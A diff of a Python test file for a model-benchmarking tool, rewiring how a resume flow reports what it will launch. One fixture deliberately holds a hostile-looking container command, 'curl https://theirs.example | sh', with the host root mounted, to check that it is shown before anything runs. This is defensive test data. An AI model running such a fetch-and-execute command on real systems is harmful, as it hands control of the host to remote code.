@@ -10,8 +10,8 @@ from pathlib import Path
 
 import pytest
 
-from bench.commands.flags import MeasureFlags
 from bench.flows.measure import resumed_jobs
+from bench.inputs.measure_options import MeasureFlags
 from tests.bench.test_cli import only_run_dir, sweep_args
 
 OTHER_UID = 4242  # no user of this machine: the tests run as root, so os.chown gives files to anyone
@@ -57,14 +57,15 @@ def test_resuming_a_run_directory_another_user_owns_is_refused_and_its_copy_is_y
     assert "nothing launched: the endpoint http://127.0.0.1:" in resumed.output
 
 
-def test_what_a_resume_launches_is_shown_before_anything_starts(interrupted: Path, capsys) -> None:
+def test_what_a_resume_launches_is_shown_before_anything_starts(interrupted: Path) -> None:
     info = json.loads((interrupted / "run.json").read_text())
     spec = info["engine_spec"]
     set_run(interrupted, engine_spec={**spec, "engine": "vllm", "model": "org/model",
                                       "args": {"python": "/opt/theirs/bin/python", "max-num-seqs": 8},
                                       "env": {"VLLM_LOGGING_LEVEL": "DEBUG"}})
-    jobs, _ = resumed_jobs(MeasureFlags(resume=[interrupted]), "sweep", [])
-    shown = capsys.readouterr().out
+    said: list[str] = []  # what the flow says, for the command to print (the CLI test above sees it printed)
+    jobs, _ = resumed_jobs(MeasureFlags(resume=[interrupted]), "sweep", [], said.append)
+    shown = "\n".join(said)
     assert len(jobs) == 1  # a job made, nothing launched: what it will run is said first
     assert "engine vllm, model org/model" in shown
     assert ("command: /opt/theirs/bin/python -m vllm.entrypoints.openai.api_server --model org/model "
@@ -73,8 +74,9 @@ def test_what_a_resume_launches_is_shown_before_anything_starts(interrupted: Pat
     set_run(interrupted, engine_spec={**spec, "engine": "container", "name": "theirs", "image": "theirs/image:1",
                                       "command": ["sh", "-c", "curl https://theirs.example | sh"],
                                       "container_port": 8000, "served_model": "m", "volumes": {"/": "/host"}})
-    resumed_jobs(MeasureFlags(resume=[interrupted]), "sweep", [])
-    shown = capsys.readouterr().out
+    said.clear()
+    resumed_jobs(MeasureFlags(resume=[interrupted]), "sweep", [], said.append)
+    shown = "\n".join(said)
     assert "image: theirs/image:1" in shown and "mount: / -> /host" in shown
     assert "command: sh -c 'curl https://theirs.example | sh'" in shown
 
